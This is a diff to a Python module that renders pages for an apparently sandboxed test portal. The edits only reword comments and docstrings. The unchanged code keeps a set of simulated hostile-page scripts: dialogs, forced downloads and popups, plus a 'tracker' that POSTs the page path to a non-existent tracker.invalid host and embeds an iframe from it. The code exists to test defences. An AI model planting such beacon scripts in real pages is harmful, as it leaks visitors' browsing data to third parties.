@@ -1,4 +1,4 @@
-"""The portal's pages. A template holds no logic: what a page needs to know is JSON in it, for its script."""
+"""Renders the portal's pages. Templates contain no logic: a page's data is embedded as JSON for its script."""
 
 from __future__ import annotations
 
@@ -14,12 +14,12 @@ from ops.sandbox.fault_settings import FaultSettings
 
 FOLDER = Path(__file__).parent / "templates"
 
-#: What a hostile or clumsy page does to its visitor.
+#: Scripts of hostile or badly written pages.
 TRICKS = {
     "dialog": 'alert("Your session will end in five minutes.");',
     "download": 'location.href = "/download/report.csv";',
     "popup": 'window.open("/help", "_blank");',
-    # The host does not exist: a page that is let through to it learns nothing.
+    # The host does not exist, so a request that is not blocked sends nothing.
     "tracker": """
         fetch("https://tracker.invalid/seen", {method: "POST", body: location.pathname}).catch(() => {});
         document.body.append(Object.assign(document.createElement("iframe"), {src: "https://tracker.invalid/"}));
@@ -69,7 +69,7 @@ def _page(name: str, fault_settings: FaultSettings, *, title: str, data: Any = N
     tricks = [script for trick, script in TRICKS.items() if getattr(fault_settings, trick)]
     return _template(name).substitute(
         title=escape(title),
-        # "</script>" in a text must not end the element.
+        # "</script>" in the data must not end the element.
         data=json.dumps(data).replace("<", "\\u003c"),
         tricks="".join(f'<script>addEventListener("load", () => {{ {trick} }});</script>' for trick in tricks)
         + _elsewhere(fault_settings),
@@ -77,7 +77,7 @@ def _page(name: str, fault_settings: FaultSettings, *, title: str, data: Any = N
 
 
 def _elsewhere(fault_settings: FaultSettings) -> str:
-    """What a page has to do with other hosts."""
+    """Returns the parts of a page that refer to other hosts."""
     parts = ""
     if fault_settings.assets_from:
         host = escape(fault_settings.assets_from)
